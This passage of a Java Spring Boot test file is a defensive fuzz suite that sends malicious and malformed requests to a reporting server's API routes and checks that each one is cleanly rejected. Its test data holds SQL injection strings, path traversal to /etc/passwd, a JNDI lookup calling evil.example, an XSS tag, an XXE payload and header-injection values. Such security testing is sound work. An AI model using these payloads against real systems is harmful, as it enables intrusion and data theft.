package org.telecube.server.system;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.ResultSetMetaData;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Duration;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.EnumSet;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.function.Function;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import javax.sql.DataSource;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.core.io.Resource;
import org.springframework.core.io.support.PathMatchingResourcePatternResolver;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.web.bind.annotation.RequestMethod;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
import org.telecube.server.TelecubeApplication;
import org.telecube.server.schedule.ScheduleRequest;
import org.telecube.server.schedule.ScheduleService;
import org.telecube.server.security.UserService;
import org.telecube.server.testing.HttpSession;
import org.telecube.server.testing.SampleWarehouse;
import org.telecube.server.testing.TestUsers;
import org.telecube.warehouse.Warehouse;
import org.telecube.warehouse.backend.Backend;
import org.telecube.warehouse.model.Aggregate;
import org.telecube.warehouse.model.Cube;
import org.telecube.warehouse.model.Measure;

/**
 * The bad-input suite (issue 14): several hundred generated malicious or malformed requests to
 * every API route and page, anonymous and as each role, over real HTTP — and over a raw socket for
 * what {@code java.net.http} refuses to send (CR, LF or NUL in a header, a NUL in the request
 * line, smuggling framing). Every answer must be a 4xx problem JSON with a {@code code} and a
 * {@code detail} (the code each case expects, for most), naming no Java type and no server path;
 * and the warehouse and the metadata store must be the same afterwards (fingerprints).
 *
 * <p>Only invalid variants are generated: a request that succeeds is a finding (it would also
 * change the fingerprints). {@link #routes()} must list exactly the server's {@code /api} routes,
 * and every page under {@code static/} must have cases, so a new endpoint or page fails
 * {@link #theTableCoversEveryApiRouteAndPage()} until it has cases here.
 */
@SpringBootTest(classes = TelecubeApplication.class, webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BadInputSuiteTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  /** What must never reach a client (as in ClientMistakesTest): Java packages, exception names, framework internals. */
  private static final Pattern JAVA = Pattern.compile("java\\.|javax\\.|jakarta\\.|org\\.|com\\.fasterxml|Exception"
      + "|springframework|\\bat [a-z]+\\.[a-z]+\\.");
  /** Files of the server's own that no answer may name. */
  private static final Pattern SERVER_FILES = Pattern.compile("\\.(duckdb|mv\\.db|java)\\b");
  private static final String PASSWORD = "a-long-enough-password";
  private static final String QUERY = "{\"measures\":[\"revenue\"],\"rows\":[\"region.province\"]}";

  /**
   * Strings an attacker or a broken client puts in any text field: SQL, quotes, NUL and other
   * control characters, a lone surrogate, emoji and a bidi override, path traversal (plain and
   * encoded), 5,000 characters, a JNDI lookup and markup.
   */
  private static final List<String> NASTY = List.of(
      "' OR 1=1 --",
      "\"; DROP TABLE fact_billing; --",
      "region.province) UNION SELECT password_hash FROM app_user --",
      "1; DELETE FROM report_schedule",
      "'\"`\\",
      "a\u0000b",
      "\u001b[31m\u0007",
      "\ud800",
      "广东😀\u202e",
      "../../../../etc/passwd",
      "..%2f..%2fetc%2fpasswd",
      "x".repeat(5000),
      "${jndi:ldap://evil.example/a}",
      "<script>alert(1)</script>");

  /**
   * {@code count} of the nasty strings from {@code from} on, round the list: each field gets a share
   * and the fields of an endpoint together get them all, which keeps the suite fast.
   */
  private static List<String> nasty(int from, int count) {
    List<String> out = new ArrayList<>();
    for (int i = 0; i < Math.min(count, NASTY.size()); i++) {
      out.add(NASTY.get((from + i) % NASTY.size()));
    }
    return out;
  }

  /** Authorization headers that are not a valid token, in turn. */
  private static final List<String> GARBAGE_AUTH = List.of("Bearer tc_nope_nope", "Bearer ' OR 1=1 --",
      "Basic YWRtaW46YWRtaW4=", "Bearer " + "A".repeat(5000), "Bearer tc_testadmin_" + "x".repeat(32),
      "Bearer " + TestUsers.ADMIN_TOKEN + "'--", "Bearer " + TestUsers.ADMIN_TOKEN.substring(1), "bearer",
      "Digest username=\"admin\"", "Bearer tc_..%2f..%2fetc_passwd", "Bearer 广东😀");

  /** Who sends a request. */
  enum Who {
    ANONYMOUS,
    /** Anonymous, but with the CSRF cookie and header, as the login page sends its POST. */
    BROWSER,
    ADMIN,
    ANALYST,
    /** A Guangdong manager's session, with its CSRF token. */
    MANAGER,
    /** The same session without its CSRF token (or with a wrong one). */
    NO_CSRF,
    LOADER,
    REVOKED,
    EXPIRED,
    /** The token of a user who has since been disabled. */
    DISABLED,
    /** A made-up Authorization header (the case carries it). */
    GARBAGE
  }

  private static final Set<Who> PUBLIC = EnumSet.noneOf(Who.class);
  private static final Set<Who> ANYONE = EnumSet.of(Who.ADMIN, Who.ANALYST, Who.MANAGER, Who.LOADER);
  private static final Set<Who> ADMINS = EnumSet.of(Who.ADMIN);
  private static final Set<Who> READERS = EnumSet.of(Who.ADMIN, Who.ANALYST, Who.MANAGER);
  private static final Set<Who> ANALYSTS = EnumSet.of(Who.ADMIN, Who.ANALYST);
  private static final Set<Who> LISTS = EnumSet.of(Who.ADMIN, Who.MANAGER);
  private static final Set<Who> LOADS = EnumSet.of(Who.ADMIN, Who.LOADER);

  /**
   * An API route: {@code METHOD /pattern} as the handler mapping spells it, who may call it, a
   * harmless concrete path for the generated authentication cases, and whether it reads a JSON body.
   */
  record Route(String key, Set<Who> roles, String path, boolean body) {
    String method() {
      return key.substring(0, key.indexOf(' '));
    }
  }

  /**
   * One request and what it must get. {@code target} is the path and query (percent-encoded, or
   * as sent on the wire for raw cases); {@code code} is the expected problem code, alternatives
   * separated by {@code |}, or null for any.
   */
  record Case(String endpoint, Who who, String method, String target, Map<String, String> headers, String type,
              byte[] body, boolean raw, boolean chunked, String verbatim, int status, String code) {
    String describe() {
      return endpoint + " [" + who + "] " + method + " " + abbreviate(target)
          + (headers.isEmpty() ? "" : " " + abbreviate(headers.toString())) + (type == null ? "" : " (" + type + ")")
          + (body == null ? "" : " body=" + abbreviate(new String(body, StandardCharsets.UTF_8)))
          + (verbatim == null ? "" : " raw=" + abbreviate(verbatim));
    }
  }

  record Answer(int status, String contentType, String body) {
  }

  @DynamicPropertySource
  static void properties(DynamicPropertyRegistry registry) {
    SampleWarehouse.register(registry);
  }

  @LocalServerPort
  int port;
  @Autowired
  UserService users;
  @Autowired
  ScheduleService schedules;
  @Autowired
  Warehouse warehouse;
  @Autowired
  DataSource metadata;
  @Autowired
  @Qualifier("requestMappingHandlerMapping")
  RequestMappingHandlerMapping mappings;
  @Value("${telecube.data-dir}")
  String dataDir;

  private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
      .followRedirects(HttpClient.Redirect.NEVER).connectTimeout(Duration.ofSeconds(10)).build();
  private final List<Case> cases = new ArrayList<>();
  private final Map<Who, String> bearer = new TreeMap<>();
  private String managerCookies;
  private String managerCsrf;
  private String browserCookies;
  private String browserCsrf;
  private String analystTokenId;
  private long adminSchedule;
  private long managerSchedule;
  private long analystSchedule;
  private int garbage;
  private int turn;

  // ------------------------------------------------------------------ who, and what they own

  @BeforeAll
  void principals() throws Exception {
    for (String[] u : new String[][] {{"ana", "analyst", "HQ"}, {"gd-manager", "manager", "P440000"},
        {"loader", "loader", "HQ"}, {"leaver", "analyst", "HQ"}}) {
      users.add(new UserService.NewUser(u[0], null, null, u[1], u[2], PASSWORD, false));
    }
    bearer.put(Who.ADMIN, TestUsers.ADMIN_TOKEN);
    UserService.IssuedToken ana = users.createToken("ana", "fuzz", Duration.ofDays(1));
    analystTokenId = ana.token().publicId();
    bearer.put(Who.ANALYST, ana.secret());
    bearer.put(Who.LOADER, users.createToken("loader", "fuzz", null).secret());
    UserService.IssuedToken revoked = users.createToken("ana", "revoked", null);
    users.revokeToken(revoked.token().publicId());
    bearer.put(Who.REVOKED, revoked.secret());
    // a token valid for a day cannot expire within a test: its end is moved into the past instead
    UserService.IssuedToken expired = users.createToken("ana", "expired", Duration.ofDays(1));
    try (Connection c = metadata.getConnection();
         PreparedStatement s = c.prepareStatement("update api_token set expires_at = ? where public_id = ?")) {
      s.setObject(1, OffsetDateTime.now(ZoneOffset.UTC).minusDays(1));
      s.setString(2, expired.token().publicId());
      assertThat(s.executeUpdate()).isEqualTo(1);
    }
    bearer.put(Who.EXPIRED, expired.secret());
    bearer.put(Who.DISABLED, users.createToken("leaver", "fuzz", null).secret());
    users.setEnabled("leaver", false);

    HttpSession manager = HttpSession.login(base(), "gd-manager", PASSWORD);
    managerCookies = manager.cookieHeader();
    managerCsrf = manager.csrf();
    HttpSession browser = new HttpSession(base());
    browser.get("/api/health");
    browserCookies = browser.cookieHeader();
    browserCsrf = browser.csrf();
    assertThat(browserCsrf).isNotBlank();

    // schedules of three owners, firing only in 2099, for the cases that must leave them alone
    adminSchedule = schedule("admin", "").id();
    managerSchedule = schedule("gd-manager", "440000").id();
    analystSchedule = schedule("ana", "south").id();
    buildCases();
  }

  private org.telecube.server.schedule.Schedule schedule(String owner, String scope) {
    return schedules.create(new ScheduleRequest("fuzz target of " + owner, "monthly-revenue", -1, scope, "pdf",
        "zh-CN", "0 0 8 1 1 ? 2099", "Asia/Shanghai", List.of(owner + "@example.com"), List.of(), null, true,
        owner));
  }

  /** Every {@code /api} route of the server, with who may call it. Keep equal to the handler mapping. */
  private List<Route> routes() {
    String s = "/api/schedules/" + adminSchedule;
    return List.of(
        new Route("GET /api/health", PUBLIC, "/api/health", false),
        new Route("POST /api/session", PUBLIC, "/api/session", true),
        new Route("DELETE /api/session", PUBLIC, "/api/session", false),
        new Route("GET /api/me", ANYONE, "/api/me", false),
        new Route("POST /api/me/password", ANYONE, "/api/me/password", true),
        new Route("POST /api/tokens", ANYONE, "/api/tokens", true),
        new Route("GET /api/tokens", ANYONE, "/api/tokens", false),
        new Route("DELETE /api/tokens/{id}", ANYONE, "/api/tokens/nope", false),
        new Route("GET /api/users", ADMINS, "/api/users", false),
        new Route("POST /api/users", ADMINS, "/api/users", true),
        new Route("PUT /api/users/{username}", ADMINS, "/api/users/nobody", true),
        new Route("GET /api/audit", ADMINS, "/api/audit", false),
        new Route("GET /api/cubes", READERS, "/api/cubes", false),
        new Route("GET /api/cubes/{cube}", READERS, "/api/cubes/revenue", false),
        new Route("GET /api/cubes/{cube}/members/{level}", READERS, "/api/cubes/revenue/members/region.province",
            false),
        new Route("POST /api/cubes/{cube}/query", ANALYSTS, "/api/cubes/revenue/query", true),
        new Route("POST /api/cubes/{cube}/explain", ANALYSTS, "/api/cubes/revenue/explain", true),
        new Route("GET /api/cubes/{cube}/explain", ANALYSTS, "/api/cubes/revenue/explain?measures=revenue", false),
        new Route("DELETE /api/cubes/queries/{id}", ANALYSTS, "/api/cubes/queries/q1", false),
        new Route("POST /api/cubes/{cube}/export", ANALYSTS, "/api/cubes/revenue/export?format=csv", true),
        new Route("GET /api/reports", READERS, "/api/reports", false),
        new Route("GET /api/reports/{id}", READERS, "/api/reports/monthly-revenue?month=2025-06", false),
        new Route("GET /api/churn/at-risk", LISTS, "/api/churn/at-risk?month=2025-06", false),
        new Route("GET /api/churn/churned", LISTS, "/api/churn/churned?month=2025-06", false),
        new Route("GET /api/churn/at-risk/export", LISTS, "/api/churn/at-risk/export?month=2025-06", false),
        new Route("GET /api/churn/churned/export", LISTS, "/api/churn/churned/export?month=2025-06", false),
        new Route("GET /api/schedules", READERS, "/api/schedules", false),
        new Route("POST /api/schedules", READERS, "/api/schedules", true),
        new Route("GET /api/schedules/{id}", READERS, s, false),
        new Route("PUT /api/schedules/{id}", READERS, s, true),
        new Route("DELETE /api/schedules/{id}", READERS, s, false),
        new Route("POST /api/schedules/{id}/send-now", READERS, s + "/send-now", false),
        new Route("GET /api/schedules/preview", READERS, "/api/schedules/preview?cron=0+0+8+1+*+%3F", false),
        new Route("GET /api/schedules/{id}/preview", READERS, s + "/preview", false),
        new Route("GET /api/deliveries", READERS, "/api/deliveries", false),
        new Route("GET /api/deliveries/{id}", READERS, "/api/deliveries/1", false),
        new Route("GET /api/warehouse", LOADS, "/api/warehouse", false),
        new Route("POST /api/etl/batches", LOADS, "/api/etl/batches", true),
        new Route("GET /api/etl/inbox", LOADS, "/api/etl/inbox", false),
        // multipart, not JSON: its own body cases in etlCases()
        new Route("POST /api/etl/uploads", LOADS, "/api/etl/uploads", false));
  }

  // ------------------------------------------------------------------ the tests

  @Test
  void theTableCoversEveryApiRouteAndPage() throws Exception {
    Set<String> mapped = new TreeSet<>();
    for (RequestMappingInfo info : mappings.getHandlerMethods().keySet()) {
      for (String pattern : info.getPatternValues()) {
        if (!pattern.startsWith("/api/")) {
          continue;
        }
        Set<RequestMethod> methods = info.getMethodsCondition().getMethods();
        if (methods.isEmpty()) {
          mapped.add("ANY " + pattern);
        }
        methods.forEach(m -> mapped.add(m.name() + " " + pattern));
      }
    }
    Set<String> table = routes().stream().map(Route::key).collect(Collectors.toCollection(TreeSet::new));
    assertThat(mapped).as("API routes without bad-input cases: add them to routes() and give them cases")
        .isSubsetOf(table);
    assertThat(table).as("routes in the table the server no longer has").isSubsetOf(mapped);

    Map<String, List<Case>> byEndpoint = cases.stream().collect(Collectors.groupingBy(Case::endpoint));
    for (Route r : routes()) {
      List<Case> own = byEndpoint.getOrDefault(r.key(), List.of());
      assertThat(own).as(r.key() + ": cases").hasSizeGreaterThanOrEqualTo(5);
      if (!r.roles().isEmpty()) {
        assertThat(own).as(r.key() + ": anonymous").anyMatch(c -> c.who() == Who.ANONYMOUS);
        // past the authentication: cases as a role that may call the route
        assertThat(own).as(r.key() + ": as a role that may call it").anyMatch(c -> r.roles().contains(c.who()));
      }
    }
    // every page (and the login page) has cases of its own
    for (Resource page : new PathMatchingResourcePatternResolver().getResources("classpath:/static/*.html")) {
      assertThat(byEndpoint).as("cases for the page " + page.getFilename()).containsKey("PAGE /" + page.getFilename());
    }
    assertThat(byEndpoint).containsKey("PAGE /");
    Set<String> unknown = new TreeSet<>(byEndpoint.keySet());
    unknown.removeAll(table);
    unknown.removeIf(k -> k.startsWith("PAGE ") || k.startsWith("OTHER "));
    assertThat(unknown).as("cases naming no route").isEmpty();
    assertThat(cases).hasSizeGreaterThanOrEqualTo(300);
  }

  @Test
  void everyBadRequestIsAClean4xxAndChangesNothing() throws Exception {
    Map<String, String> warehouseBefore = warehouseFingerprint();
    Map<String, String> metadataBefore = metadataFingerprint();

    List<String> failures = new ArrayList<>();
    Map<Integer, Integer> statuses = new TreeMap<>();
    Map<String, Integer> codes = new TreeMap<>();
    Map<String, Long> millisByEndpoint = new TreeMap<>();
    long started = System.nanoTime();
    for (Case c : cases) {
      long t0 = System.nanoTime();
      Answer a = send(c);
      millisByEndpoint.merge(c.endpoint(), (System.nanoTime() - t0) / 1_000_000, Long::sum);
      statuses.merge(a.status(), 1, Integer::sum);
      check(c, a, failures);
      if (a.body().startsWith("{")) {
        try {
          codes.merge(JSON.readTree(a.body()).path("code").asText(), 1, Integer::sum);
        } catch (IOException e) {
          // reported by check
        }
      }
    }
    Map<String, Long> counts = cases.stream().collect(Collectors.groupingBy(Case::endpoint, Collectors.counting()));
    String summary = String.format("bad-input suite: %d requests in %d ms; statuses %s; codes %s%n"
        + "slowest endpoints (ms / requests): %s%n", cases.size(),
        Duration.ofNanos(System.nanoTime() - started).toMillis(), statuses, codes,
        millisByEndpoint.entrySet().stream().sorted(Map.Entry.<String, Long>comparingByValue().reversed()).limit(8)
            .map(e -> e.getKey() + " " + e.getValue() + "/" + counts.get(e.getKey())).toList());
    System.out.print(summary);
    // every failure, for whoever adapts the cases (the assertion shows the first ones only)
    java.nio.file.Files.writeString(Path.of("target", "bad-input-suite.txt"), summary + String.join("\n", failures));

    SoftAssertions softly = new SoftAssertions();
    softly.assertThat(failures).as(failures.size() + " of " + cases.size() + " cases failed:\n"
        + String.join("\n", failures.subList(0, Math.min(60, failures.size())))).isEmpty();
    softly.assertThat(warehouseFingerprint()).as("the warehouse").isEqualTo(warehouseBefore);
    softly.assertThat(metadataFingerprint()).as("the metadata store").isEqualTo(metadataBefore);
    // nobody was logged out and no token stopped working
    softly.assertThat(send(plain(Who.MANAGER, "GET", "/api/me")).status()).as("the manager's session").isEqualTo(200);
    softly.assertThat(send(plain(Who.ANALYST, "GET", "/api/me")).status()).as("the analyst's token").isEqualTo(200);
    softly.assertThat(send(plain(Who.ADMIN, "GET", "/api/me")).status()).as("the admin's token").isEqualTo(200);
    softly.assertAll();
  }

  // ------------------------------------------------------------------ the cases

  private void buildCases() {
    for (Route r : routes()) {
      authenticationCases(r);
    }
    healthAndSession();
    me();
    tokens();
    usersAndAudit();
    cubes();
    queries();
    exports();
    reports();
    churnLists();
    scheduleCases();
    deliveries();
    warehouseIdentity();
    etlBatchCases();
    rawProtocol();
    pages();
  }

  /**
   * For every route: no identity; a revoked, an expired or a disabled user's token (in turn) and a
   * made-up one; each role that may not call it; a session without its CSRF token or with a wrong
   * one; an unknown parameter; a wrong method; for a JSON body: wrong media types, broken and
   * deeply nested JSON, invalid UTF-8 and a body over the 1 MB bound (declared, and chunked).
   */
  private void authenticationCases(Route r) {
    String evil = r.body() ? "{\"name\":\"' OR 1=1 --\",\"files\":[\"../../../../etc/passwd\"]}" : null;
    if (!r.roles().isEmpty()) {
      on(r.key(), Who.ANONYMOUS).json(evil).expect(401, "unauthenticated");
    }
    // a revoked, an expired or a disabled user's token, in turn
    on(r.key(), List.of(Who.REVOKED, Who.EXPIRED, Who.DISABLED).get(turn++ % 3)).json(evil).expect(401, "bad_token");
    garbage(on(r.key(), Who.GARBAGE).json(evil), r.path().startsWith("/api/session") && !r.method().equals("GET"));
    if (!r.roles().isEmpty()) {
      for (Who w : List.of(Who.ANALYST, Who.MANAGER, Who.LOADER)) {
        if (!r.roles().contains(w)) {
          on(r.key(), w).json(evil).expect(403, "forbidden");
        }
      }
    }
    if (!r.method().equals("GET")) {
      Draft forged = on(r.key(), Who.NO_CSRF).json(evil);
      if (turn % 2 == 0) {
        forged.header("X-XSRF-TOKEN", "' OR 1=1 --");
      }
      forged.expect(403, "csrf");
    }
    // the login and logout need the CSRF token even without a session (login CSRF)
    Who allowed = r.roles().isEmpty() ? (r.path().equals("/api/session") ? Who.BROWSER : Who.ANONYMOUS)
        : r.roles().contains(Who.ANALYST) ? Who.ANALYST : r.roles().iterator().next();
    String unknown = r.path() + (r.path().contains("?") ? "&" : "?") + "evil%27%20OR%201%3D1=1";
    if (r.key().equals(UPLOADS)) {
      on(r.key(), allowed).at(unknown).body(MULTIPART, upload("billing_2025-06.csv", "x")).expect(400,
          "unknown_parameter");
    } else {
      on(r.key(), allowed).at(unknown).json(r.body() ? "{}" : null).expect(400, "unknown_parameter");
    }
    on(r.key(), Who.ADMIN).method("PATCH").json(evil).expect(405, "method_not_allowed");
    if (r.body()) {
      on(r.key(), allowed).body("text/plain", "' OR 1=1 --").expect(415, "unsupported_media_type");
      // a form's fields are query parameters to the servlet API: unknown ones
      // (a route that consumes JSON only refuses a form as a media type)
      boolean jsonOnly = r.key().equals("POST /api/etl/batches");
      on(r.key(), allowed).body("application/x-www-form-urlencoded", "username=admin&password=x")
          .expect(jsonOnly ? 415 : 400, jsonOnly ? "unsupported_media_type" : "unknown_parameter");
      on(r.key(), allowed).body("multipart/form-data; boundary=x", turn % 2 == 0 ? "' OR 1=1 --"
          : "--x\r\nContent-Disposition: form-data; name=\"../../etc/passwd\"; filename=\"../../etc/passwd\"\r\n\r\n"
          + "root\r\n--x--\r\n").expect(415, "unsupported_media_type");
      // XML is read too (jackson-dataformat-xml is on the class path), never its external entities
      on(r.key(), allowed).body("application/xml", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM "
          + "\"file:///etc/passwd\">]><x>&e;</x>").expect(jsonOnly ? 415 : 400,
          jsonOnly ? "unsupported_media_type" : "malformed_body");
      List<String> broken = List.of("{", "[]", "42", "\"just a string\"", "{\"a\":}", "{'a':1}", "{\"a\":1}}");
      for (int i = 0; i < 3; i++) {
        on(r.key(), allowed).json(broken.get((turn + i) % broken.size())).expect(400, "malformed_body");
      }
      on(r.key(), allowed).json("[".repeat(10_000) + "]".repeat(10_000)).expect(400, "malformed_body");
      on(r.key(), allowed).json("{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000)).expect(400, "malformed_body");
      on(r.key(), allowed).bytes("application/json", new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC3, '(',
          (byte) 0xFF, '"', '}'}).expect(400, "malformed_body");
      String huge = "{\"name\":\"" + "x".repeat(1_100_000) + "\"}";
      on(r.key(), allowed).json(huge).expect(413, "too_large");
      if (r.key().contains("query") || r.key().contains("schedules")) {
        on(r.key(), allowed).json(huge).chunked().expect(413, "too_large");
      }
    }
  }

  /**
   * The next made-up Authorization header on {@code d}, and what it gets: one that is no bearer
   * token on a state-changing login or logout meets the CSRF check first, and bytes that are
   * control characters as Latin-1 the firewall.
   */
  private void garbage(Draft d, boolean csrfFirst) {
    String auth = GARBAGE_AUTH.get(garbage++ % GARBAGE_AUTH.size());
    d.header("Authorization", auth);
    if (auth.chars().anyMatch(ch -> ch > 0xFF)) {
      d.expect(400, "bad_request");
    } else if (csrfFirst && !(auth.length() > 7 && auth.regionMatches(true, 0, "bearer ", 0, 7))) {
      d.expect(403, "csrf");
    } else {
      d.expect(401, "bad_token");
    }
  }

  private void healthAndSession() {
    String health = "GET /api/health";
    on(health, Who.ANONYMOUS).at("/api/health?%00=1").expect(400, "bad_request");
    on(health, Who.ANONYMOUS).at("/api/health?locale=fr").expect(400, "unknown_parameter");
    on(health, Who.ANONYMOUS).at("/api/health?x=" + enc("x".repeat(5000))).expect(400, "unknown_parameter");
    on(health, Who.ANONYMOUS).method("POST").json("{}").expect(405, "method_not_allowed");
    on(health, Who.ANONYMOUS).method("DELETE").expect(405, "method_not_allowed");

    String login = "POST /api/session";
    for (String username : nasty(0, 7)) {
      on(login, Who.BROWSER).json("{\"username\":" + js(username) + ",\"password\":\"' OR '1'='1\"}")
          .expect(401, "bad_credentials");
    }
    on(login, Who.BROWSER).json("{\"username\":\"admin\",\"password\":\"' OR 1=1 --\"}").expect(401, "bad_credentials");
    on(login, Who.BROWSER).json("{\"username\":\"ana\",\"password\":" + js("p".repeat(5000)) + "}")
        .expect(401, "bad_credentials");
    on(login, Who.BROWSER).json("{\"username\":\"ana\",\"password\":null}").expect(401, "bad_credentials");
    on(login, Who.BROWSER).json("{}").expect(400, "missing_parameter");
    on(login, Who.BROWSER).json("{\"username\":\"\",\"password\":\"x\"}").expect(400, "missing_parameter");
    on(login, Who.BROWSER).json("null").expect(400, "missing_parameter");
    on(login, Who.BROWSER).json("{\"username\":[\"admin\"],\"password\":\"x\"}").expect(400, "malformed_body");
    on(login, Who.BROWSER).json("{\"username\":{\"$ne\":null},\"password\":{\"$ne\":null}}")
        .expect(400, "malformed_body");
    on(login, Who.BROWSER).json("{\"username\":\"admin\",\"password\":true}").expect(401, "bad_credentials");
    on(login, Who.BROWSER).json("{\"username\":\"ana\",\"password\":[\"" + PASSWORD + "\"]}")
        .expect(400, "malformed_body");
    on(login, Who.BROWSER).at("/api/session?next=%2F%2Fevil.example").json("{}").expect(400, "unknown_parameter");
    on(login, Who.BROWSER).at("/api/session?locale=fr").json("{\"username\":\"nobody\",\"password\":\"x\"}")
        .expect(401, "bad_credentials");
    // login CSRF: no cookie and header, or a header that is not the cookie's
    on(login, Who.ANONYMOUS).json("{\"username\":\"ana\",\"password\":\"" + PASSWORD + "\"}").expect(403, "csrf");
    on(login, Who.BROWSER).header("X-XSRF-TOKEN", "' OR 1=1 --")
        .json("{\"username\":\"ana\",\"password\":\"" + PASSWORD + "\"}").expect(403, "csrf");

    String logout = "DELETE /api/session";
    on(logout, Who.MANAGER).at("/api/session?all=true").expect(400, "unknown_parameter");
    on(logout, Who.BROWSER).at("/api/session?" + enc("' OR 1=1 --") + "=1").expect(400, "unknown_parameter");
    // logout CSRF: without the token nobody is logged out
    on(logout, Who.ANONYMOUS).expect(403, "csrf");
  }

  private void me() {
    String me = "GET /api/me";
    for (String locale : List.of("fr", "' OR 1=1 --", "x".repeat(5000), "广东😀", "../../etc/passwd")) {
      on(me, Who.ANALYST).at("/api/me?locale=" + enc(locale)).expect(400, "bad_parameter");
    }
    on(me, Who.MANAGER).at("/api/me?locale=" + enc("e\u0000n")).expect(400, "bad_parameter|bad_request");
    on(me, Who.LOADER).at("/api/me?user=admin").expect(400, "unknown_parameter");

    String password = "POST /api/me/password";
    String current = "\"currentPassword\":\"" + PASSWORD + "\"";
    // a right current password between wrong ones, so the account never locks (five wrong in a row would)
    on(password, Who.ANALYST).json("{" + current + ",\"newPassword\":\"short\"}").expect(400, "weak_password");
    on(password, Who.ANALYST).json("{\"currentPassword\":\"' OR 1=1 --\",\"newPassword\":\"a-new-long-password\"}")
        .expect(401, "bad_credentials");
    on(password, Who.ANALYST).json("{" + current + ",\"newPassword\":" + js("x".repeat(5000)) + "}")
        .expect(400, "weak_password");
    on(password, Who.ANALYST).json("{\"currentPassword\":null,\"newPassword\":\"a-new-long-password\"}")
        .expect(401, "bad_credentials");
    on(password, Who.ANALYST).json("{" + current + ",\"newPassword\":\"" + "😀".repeat(20) + "\"}")
        .expect(400, "weak_password");
    on(password, Who.ANALYST).json("{" + current + ",\"newPassword\":\"" + PASSWORD + "\"}")
        .expect(400, "same_password");
    on(password, Who.ANALYST).json("{" + current + ",\"newPassword\":null}").expect(400, "weak_password");
    on(password, Who.ANALYST).json("{" + current + ",\"newPassword\":[\"a-new-long-password\"]}")
        .expect(400, "malformed_body");
    on(password, Who.ANALYST).json("{\"currentPassword\":{\"a\":1},\"newPassword\":1}").expect(400, "malformed_body");
    on(password, Who.ANALYST).json("null").expect(400, "missing_parameter");
    on(password, Who.LOADER).json("{\"currentPassword\":\"a\\u0000b\",\"newPassword\":\"a-new\\u0000password\"}")
        .expect(401, "bad_credentials");
    on(password, Who.MANAGER).json("{" + current + ",\"newPassword\":\"\\ud800\"}").expect(400, "weak_password");
  }

  private void tokens() {
    String create = "POST /api/tokens";
    for (String days : List.of("0", "-1", "3651", "2147483648", "99999999999999999999", "1e309", "\"abc\"", "[1]",
        "{\"a\":1}", "\"' OR 1=1 --\"")) {
      on(create, Who.ANALYST).json("{\"name\":\"x\",\"days\":" + days + "}")
          .expect(400, "bad_token_days|malformed_body");
    }
    for (String name : List.of("x".repeat(5000), "a\u0000b", "\u001b[31m", "line\r\nSet-Cookie: a=b")) {
      on(create, Who.MANAGER).json("{\"name\":" + js(name) + ",\"days\":30}").expect(400, "bad_token_name");
    }
    on(create, Who.LOADER).json("{\"name\":[\"x\"]}").expect(400, "malformed_body");
    on(create, Who.LOADER).json("{\"name\":\"' OR 1=1 --\",\"days\":0}").expect(400, "bad_token_days");

    String list = "GET /api/tokens";
    on(list, Who.ANALYST).at("/api/tokens?user=admin").expect(403, "forbidden");
    on(list, Who.MANAGER).at("/api/tokens?user=*").expect(403, "forbidden");
    for (String user : List.of("ghost", "' OR 1=1 --", "x".repeat(5000), "a\u0000b", "../../etc/passwd", "广东😀")) {
      on(list, Who.ADMIN).at("/api/tokens?user=" + enc(user)).expect(404, "unknown_user|bad_request");
    }

    String revoke = "DELETE /api/tokens/{id}";
    // another user's token is as unknown as a made-up one
    on(revoke, Who.MANAGER).at("/api/tokens/" + analystTokenId).expect(404, "unknown_token");
    on(revoke, Who.LOADER).at("/api/tokens/testadmin").expect(404, "unknown_token");
    for (String id : List.of("' OR 1=1 --", "*", "x".repeat(5000), "广东😀", "%", "../../etc/passwd", "a\u0000b",
        "a;b", "a\\b")) {
      pathCase(revoke, Who.ADMIN, "/api/tokens/", id, "", 404, "unknown_token");
    }
  }

  private void usersAndAudit() {
    on("GET /api/users", Who.ADMIN).at("/api/users?role=admin").expect(400, "unknown_parameter");
    on("GET /api/users", Who.ADMIN).at("/api/users?" + enc("a\u0000") + "=1").expect(400, "bad_request");

    String create = "POST /api/users";
    Function<String, String> user = fields -> "{\"username\":\"fuzz-new-user\",\"role\":\"analyst\",\"org\":\"HQ\","
        + "\"password\":\"" + PASSWORD + "\"," + fields + "}";
    for (String name : nasty(7, 7)) {
      on(create, Who.ADMIN).json(user.apply("\"username\":" + js(name))).expect(400, "bad_username");
    }
    on(create, Who.ADMIN).json(user.apply("\"username\":\"ADMİN\"")).expect(400, "bad_username");
    on(create, Who.ADMIN).json(user.apply("\"username\":null")).expect(400, "bad_username");
    on(create, Who.ADMIN).json(user.apply("\"username\":\"admin\"")).expect(409, "user_exists");
    for (String role : List.of("root", "ADMIN' --", "admin\u0000", "", "x".repeat(5000))) {
